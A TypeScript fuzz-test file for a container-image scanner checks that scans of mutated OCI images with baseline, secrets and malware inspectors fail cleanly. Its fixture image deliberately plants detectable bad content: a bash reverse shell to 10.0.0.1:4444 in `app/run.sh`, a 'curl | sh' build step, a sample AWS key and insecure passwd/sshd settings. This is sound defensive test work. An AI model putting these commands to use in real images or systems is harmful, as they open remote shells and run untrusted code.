/**
 * End-to-end fuzzing of a whole scan (issue 9, item 2): every parser above is reached through `scanImage`,
 * which also runs the inspectors (baseline, secrets, malware) over the image config and files. Two contracts
 * are checked. (1) Hostile image documents: with `index.json`, the manifest or the config structurally
 * mutated (wrong types, missing fields, nulls, huge numbers, path-like strings) but with digests kept
 * consistent so the reader cannot stop at a hash mismatch, the scan returns a report or rejects with a
 * ScanError — never a TypeError from an inspector reading `config.User` or `history`. (2) Hostile file
 * contents: with any one file of a valid image (package databases, os-release, package.json, passwd,
 * sshd_config, a script) replaced by a byte-mutated copy, the scan must not fail at all, since files an
 * analyzer cannot parse become warnings. Seeds are fixed so a failure reproduces.
 */
import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import { createAdvisoryIndex } from '../advisory/advisory-index';
import { formatApkInstalled } from '../demo/formats/apk-installed';
import { buildImage } from '../image/build-image';
import type { ImageFileSpec, ImageSpec } from '../image/image-spec';
import { MEDIA_TYPE_OCI_MANIFEST } from '../image/oci';
import { memoryDirectory } from '../image/read/sources';
import { ociLayoutFiles } from '../image/read/test-images';
import { baselineInspector, malwareInspector, secretsInspector } from '../inspect';
import { sha256Digest, webPlatform } from '../platform';
import { fuzzTimeout, jsonMutationArb, mutate, mutateJson, mutationArb, runs } from '../testing/fuzz';
import { ScanError } from '../types/errors';
import { scanImage } from './scan-image';

vi.setConfig({ testTimeout: fuzzTimeout(20_000) });

const enc = (s: string) => new TextEncoder().encode(s);
const FILES: ImageFileSpec[] = [
  { path: 'etc/os-release', content: 'ID=alpine\nVERSION_ID=3.18.4\nPRETTY_NAME="Alpine Linux v3.18"\n' },
  { path: 'etc/alpine-release', content: '3.18.4\n' },
  {
    path: 'lib/apk/db/installed',
    content: formatApkInstalled([
      {
        name: 'musl',
        version: '1.2.4-r2',
        arch: 'x86_64',
        size: 1,
        installedSize: 1,
        description: 'libc',
        url: 'u',
        license: 'MIT',
        origin: 'musl',
        buildTime: 1,
      },
      {
        name: 'openssl',
        version: '3.1.4-r0',
        arch: 'x86_64',
        size: 1,
        installedSize: 1,
        description: 'tls',
        url: 'u',
        license: 'Apache-2.0',
        origin: 'openssl',
        buildTime: 1,
      },
    ]),
  },
  { path: 'etc/passwd', content: 'root:x:0:0:root:/root:/bin/ash\napp:x:0:0::/home/app:/bin/sh\n' },
  { path: 'etc/shadow', content: 'root::19000:0:::::\n', mode: 0o640 },
  { path: 'etc/ssh/sshd_config', content: 'PermitRootLogin yes\nPasswordAuthentication yes\n' },
  { path: 'app/node_modules/lodash/package.json', content: '{"name":"lodash","version":"4.17.20","license":"MIT"}' },
  { path: 'app/.env', content: 'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n' },
  { path: 'app/run.sh', content: '#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n', mode: 0o755 },
];
const spec = (files: ImageFileSpec[]): ImageSpec => ({
  created: '2024-01-01T00:00:00Z',
  config: { Env: ['PATH=/bin', 'PASSWORD=hunter2'], Cmd: ['/bin/sh'], User: 'root', ExposedPorts: { '22/tcp': {} } },
  layers: [
    { createdBy: '/bin/sh -c #(nop) ADD file:rootfs in / ', files },
    { createdBy: 'RUN curl http://x | sh', files: [{ path: 'tmp/x', content: 'x' }] },
  ],
});

const advisoryIndex = createAdvisoryIndex([
  {
    id: 'TEST-1',
    modified: '2024-01-01T00:00:00Z',
    affected: [
      {
        package: { ecosystem: 'Alpine:v3.18', name: 'openssl' },
        ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '3.1.4-r1' }] }],
      },
    ],
  },
]);
const options = {
  advisoryIndex,
  now: () => new Date('2026-11-28T00:00:00Z'),
  inspectors: [baselineInspector(), secretsInspector(), malwareInspector()],
};

const image = await buildImage(spec(FILES));
const layout = await ociLayoutFiles([{ image, refName: 'latest' }]);
const json = (bytes: Uint8Array): unknown => JSON.parse(new TextDecoder().decode(bytes));
const hex = (digest: string) => digest.slice('sha256:'.length);

/** The layout with some documents replaced; blob digests are recomputed so every hash still matches. */
async function layoutWith(docs: {
  index?: unknown;
  manifest?: unknown;
  config?: unknown;
}): Promise<Map<string, Uint8Array>> {
  const files = new Map(layout);
  const put = async (value: unknown) => {
    const bytes = enc(JSON.stringify(value) ?? 'null');
    const digest = await sha256Digest(webPlatform, bytes);
    files.set(`blobs/sha256/${hex(digest)}`, bytes);
    return { digest, size: bytes.length };
  };
  const manifest = (docs.manifest ?? json(image.manifest.bytes)) as Record<string, unknown>;
  if (docs.config !== undefined && manifest && typeof manifest === 'object') {
    manifest.config = { ...(manifest.config as object), ...(await put(docs.config)) };
  }
  const m = await put(manifest);
  files.set(
    'index.json',
    enc(JSON.stringify(docs.index ?? { schemaVersion: 2, manifests: [{ mediaType: MEDIA_TYPE_OCI_MANIFEST, ...m }] })),
  );
  return files;
}

async function scanOrScanError(files: Map<string, Uint8Array>): Promise<void> {
  try {
    const report = await scanImage(memoryDirectory(files), options);
    expect(report.inspection).toBeDefined();
  } catch (error) {
    if (!(error instanceof ScanError)) throw new Error(`not a ScanError: ${String(error)}`, { cause: error });
  }
}

const edits = fc.array(jsonMutationArb, { minLength: 1, maxLength: 3 });

describe('scanImage on hostile images', () => {
  it('scans the valid image with every inspector', async () => {
    const report = await scanImage(memoryDirectory(await layoutWith({})), options);
    expect(report.inventory.osPackages.map((p) => p.name).sort()).toEqual(['musl', 'openssl']);
    expect(report.vulnerabilities.map((v) => v.id)).toEqual(['TEST-1']);
    expect(JSON.stringify(report.inspection)).toContain('root');
  });

  it('a structurally mutated config gives a report or a ScanError', async () => {
    const config = json(image.config.bytes);
    await fc.assert(
      fc.asyncProperty(edits, async (ms) => scanOrScanError(await layoutWith({ config: mutateJson(config, ms) }))),
      { seed: 0x5ca1, numRuns: runs(60) },
    );
  });

  it('a structurally mutated manifest or index gives a report or a ScanError', async () => {
    const manifest = json(image.manifest.bytes);
    const index = json(layout.get('index.json') ?? enc('{}'));
    await fc.assert(
      fc.asyncProperty(edits, fc.boolean(), async (ms, onIndex) =>
        scanOrScanError(
          await layoutWith(onIndex ? { index: mutateJson(index, ms) } : { manifest: mutateJson(manifest, ms) }),
        ),
      ),
      { seed: 0x5ca2, numRuns: runs(60) },
    );
  });

  it('any one file byte-mutated: the scan still completes (unparsable files become warnings)', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.nat(FILES.length - 1),
        fc.array(mutationArb, { minLength: 1, maxLength: 4 }),
        async (i, ms) => {
          const files = FILES.map((f, j) =>
            j === i
              ? {
                  ...f,
                  content: mutate(typeof f.content === 'string' ? enc(f.content) : (f.content ?? new Uint8Array()), ms),
                }
              : f,
          );
          const built = await buildImage(spec(files));
          const report = await scanImage(memoryDirectory(await ociLayoutFiles([{ image: built }])), options);
          expect(report.inspection).toBeDefined();
        },
      ),
      { seed: 0x5ca3, numRuns: runs(40) },
    );
  });
});

// The minimal input fast-check shrank to when these properties first ran, kept as a plain example.
describe('regressions found by the properties', () => {
  it('a config whose `User` is a number scans (the baseline check called .split on it)', async () => {
    const config = json(image.config.bytes) as { config: Record<string, unknown> };
    const report = await scanImage(
      memoryDirectory(await layoutWith({ config: { ...config, config: { ...config.config, User: 0 } } })),
      options,
    );
    expect(report.inspection).toBeDefined();
  });
});
